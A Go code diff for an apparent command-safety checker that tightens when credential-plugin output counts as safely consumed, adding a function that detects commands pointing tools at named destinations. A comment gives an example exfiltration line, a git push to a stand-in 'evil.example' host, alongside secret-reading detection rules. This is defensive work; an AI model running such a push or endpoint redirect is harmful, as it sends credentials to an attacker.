@@ -2128,11 +2128,11 @@ func interpCodeIn(c *Command, lang string) (_, code string, ok bool) {
 // or into the tool that runs c as its credential plugin (pluginOutput),
 // rather than to the output.
 func consumedSafely(ctx *Context, c *Command) bool {
-	if c.toTool {
-		return true
-	}
 	if ctx == nil || ctx.Input == nil {
-		return false
+		return c.toTool
+	}
+	if c.toTool && !namesDestination(ctx.Input) {
+		return true
 	}
 	if o := redirectedInto(c); o != nil && loadedOnly(ctx.Input, o, c) {
 		return true // > >(kubectl apply -f -)
@@ -2642,6 +2642,31 @@ func jqSecretFinding(c *Command, field string) Finding {
 	}
 	return finding(rule, c, c.Name+" prints the "+field+" field of a file, a secret; credentials must never be read, printed or sent",
 		"let the tool that needs it read the file itself; to see which fields the file has: `"+c.Name+" 'keys' FILE`")
+}
+
+// namesDestination reports whether the input points a tool at a place
+// it names: a URL (in a word or in text it writes), an scp-like
+// host:path, a server or endpoint option, a git remote added or
+// redirected (url.*.insteadOf). A credential plugin's answer then goes
+// where the input says (git push https://evil.example/x.git, kubectl
+// --server, aws --endpoint-url), not only to the tool's own service:
+// its output is judged as shown.
+func namesDestination(in *Input) bool {
+	for _, c := range in.Commands {
+		kube := c.Is("kubectl", "oc")
+		for _, w := range c.Args {
+			v := strings.ToLower(w.Value)
+			opt, _, _ := strings.Cut(v, "=")
+			if strings.Contains(v, "://") || strings.Contains(v, "insteadof") || strings.Contains(v, "@") && strings.Contains(v, ":") ||
+				opt == "--server" || opt == "--endpoint-url" || opt == "--endpoint" || kube && opt == "-s" {
+				return true
+			}
+		}
+		if sub, rest := gitSub(c); sub == "remote" && len(rest) > 0 && (rest[0].Value == "add" || rest[0].Value == "set-url") {
+			return true
+		}
+	}
+	return false
 }
 
 // credFileFinding builds the finding of a sensitive file.
